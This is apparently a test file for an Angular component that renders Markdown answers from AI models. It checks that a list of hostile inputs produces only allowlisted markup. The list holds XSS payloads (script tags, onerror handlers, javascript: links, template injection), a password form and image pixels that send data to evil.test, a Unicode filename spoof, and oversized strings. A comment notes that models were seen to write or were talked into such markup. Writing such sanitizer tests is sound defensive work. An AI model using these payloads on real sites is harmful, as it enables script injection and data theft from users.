import { TestBed } from '@angular/core/testing';
import { provideRouter } from '@angular/router';
import { SessionApi } from '../core/session-api';
import { FakeSessionApi } from '../core/testing';
import { MarkdownView } from './markdown-view';
import { readMarkdown } from './markdown';

/** All that an answer may be drawn with. */
const ELEMENTS = new Set(
  (
    'lg-markdown lg-blocks lg-inline lg-code-block lg-copy-button lg-icon svg path ' +
    'p strong em del code pre br hr a small ul ol li blockquote div span table thead tbody tr th td button'
  ).split(' '),
);
const ATTRIBUTES =
  /^(class|href|target|rel|title|start|scope|role|tabindex|type|aria-|viewBox|width|height|d$|_ng|ng-)/;

/** Markup, links and structures that models were seen to write, or were talked into. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg>',
  'before <iframe src="https://evil.test"></iframe> after',
  '<style>*{display:none}</style>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=https://evil.test><input name=password></form>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&#58;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '[x](//evil.test/path)',
  '[x](/admin/access)',
  '[x](https://good.test@evil.test/)',
  '<javascript:alert(1)>',
  '![alt](https://evil.test/pixel.png?secret=1)',
  '![](https://evil.test/pixel.png)',
  '[![alt](https://evil.test/pixel.png)](https://evil.test)',
  '[a [b](https://one.test) c](https://two.test)',
  '![x][ref]\n\n[ref]: https://evil.test/pixel.png',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '`<b>code</b>`\n\n```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '| a | b |\n|---|--:|\n| <img src=x> | [x](javascript:alert(1)) |',
  '- [x] <b>done</b>\n- [ ] open\n  - deeper <img src=x>',
  '> <script>alert(1)</script>\n> > > > > > > > > > > > deep',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202Egnp.exe <b>\u200B',
  '&lt;img src=x onerror=alert(1)&gt;',
  '#'.repeat(10_000),
  '*'.repeat(5_000),
  '['.repeat(2_000) + 'x',
  '>'.repeat(3_000) + 'x',
];

function draw(text: string): HTMLElement {
  TestBed.resetTestingModule();
  TestBed.configureTestingModule({
    providers: [provideRouter([]), { provide: SessionApi, useValue: new FakeSessionApi() }],
  });
  const fixture = TestBed.createComponent(MarkdownView);
  fixture.componentRef.setInput('text', text);
  fixture.detectChanges();
  return fixture.nativeElement as HTMLElement;
}

function strange(host: HTMLElement): string[] {
  return [...host.querySelectorAll('*')].flatMap((one) => {
    const name = one.localName;
    const attributes = [...one.attributes].filter((attribute) => !ATTRIBUTES.test(attribute.name));
    const href = one.getAttribute('href');
    return [
      ...(ELEMENTS.has(name) ? [] : [`<${name}>`]),
      ...attributes.map((attribute) => `<${name} ${attribute.name}>`),
      ...(href !== null && !/^https?:\/\//.test(href) ? [`<${name} href=${href}>`] : []),
    ];
  });
}

describe('Markdown of an answer', () => {
  const named = HOSTILE.map((text) => [text.slice(0, 60), text] as const);
  it.each(named)('makes nothing that is not in the list of %j', (_name, text) => {
    expect(strange(draw(text))).toEqual([]);
  });

  it('draws what may be drawn', () => {
    const host = draw(
      '# Disks\n\n**db-02** is _full_.\nSee `df -h` and [the guide](https://docs.test/disks).\n\n1. one\n2. two\n\n| Host | Used |\n|---|--:|\n| db-02 | 93 % |\n\n```sh\ndf -h\n```',
    );
    expect(strange(host)).toEqual([]);
    for (const name of ['strong', 'em', 'code', 'ol', 'table', 'lg-code-block', 'a'])
      expect([name, host.querySelector(name) !== null]).toEqual([name, true]);
  });

  it('shows markup as it is written', () => {
    expect(draw('before <b onclick=x>bold</b> after').textContent).toContain('<b onclick=x>bold</b>');
    expect(draw('<script>alert(1)</script>').textContent).toContain('<script>alert(1)</script>');
    expect(draw('&lt;b&gt;').textContent).toContain('<b>');
  });

  it('says where a link leads, and opens it apart from this page', () => {
    const link = draw('[your bank](https://bank.test@evil.test/login)').querySelector('a');
    expect(link?.textContent).toContain('(evil.test)');
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toContain('noopener');
  });

  it('fetches no image, and says that there was one', () => {
    const host = draw('![a chart](https://evil.test/x.png)');
    expect(host.textContent).toContain('[image not shown: a chart]');
    expect(host.innerHTML).not.toContain('evil.test');
  });

  it('writes out signs that hide or turn the text', () => {
    expect(draw('exe.\u202Egnp').textContent).toContain('⟨U+202E⟩');
  });

  it('shows what is too long or too deep as it is written', () => {
    expect(readMarkdown(`**${'x'.repeat(200_000)}**`)).toMatchObject([{ kind: 'paragraph' }]);
    const began = performance.now();
    for (const text of HOSTILE) readMarkdown(text);
    expect(performance.now() - began).toBeLessThan(2_000);
  });
});
